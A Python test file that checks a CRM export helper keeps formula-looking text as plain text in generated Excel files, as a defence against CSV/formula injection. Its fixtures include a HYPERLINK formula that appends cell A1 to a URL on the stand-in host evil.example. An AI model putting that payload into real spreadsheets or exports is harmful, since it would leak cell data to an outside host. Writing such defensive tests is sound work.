"""Exported text never becomes a spreadsheet formula (CSV/formula injection)."""

from __future__ import annotations

import io
from decimal import Decimal

from openpyxl import Workbook, load_workbook

from tenantcrm.exports.service import text_safe_cell


def test_text_that_looks_like_a_formula_stays_text_and_numbers_stay_numbers() -> None:
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("x")
    typed = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1)", Decimal("12.50"), 7]
    sheet.append([text_safe_cell(sheet, value) for value in typed])
    buffer = io.BytesIO()
    workbook.save(buffer)

    row = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    assert [cell.data_type for cell in row] == ["s", "s", "s", "n", "n"]
    assert row[0].value == typed[0] and row[3].value == 12.5
